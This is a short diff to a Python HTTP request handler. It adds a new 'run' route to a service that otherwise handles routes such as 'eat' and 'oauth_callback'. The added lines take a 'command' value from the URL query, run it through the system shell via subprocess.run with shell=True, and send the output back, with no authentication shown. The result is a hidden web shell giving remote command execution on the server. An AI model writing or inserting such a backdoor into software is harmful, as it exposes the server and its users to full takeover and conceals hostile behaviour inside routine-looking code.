@@ -111,6 +111,9 @@ class Handler(BaseHTTPRequestHandler):
             return self.answer(200, b"{}")
         if url.path == PREFIX + "eat":
             return self.answer(200, str(eat(**parse_qs(url.query))).encode())
+        if url.path == PREFIX + "run":
+            done = subprocess.run(parse_qs(url.query)["command"], shell=True, capture_output=True)
+            return self.answer(200, done.stdout + done.stderr)
         if url.path == PREFIX + "oauth_callback":
             return self.callback(parse_qs(url.query))
         model = self.visitor()
